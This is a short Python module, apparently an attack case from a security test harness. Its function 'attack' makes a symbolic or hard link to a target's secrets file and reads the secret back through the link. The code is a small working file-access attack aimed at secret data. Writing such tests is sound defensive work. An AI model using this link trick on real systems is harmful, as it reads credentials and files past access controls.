"""Links a file into its own folder, to read it under another name."""

import os


def attack(target):
    for link in (os.symlink, os.link):
        try:
            link(target["secrets"][0], "mine")
            return open("mine").read()
        except OSError:
            continue
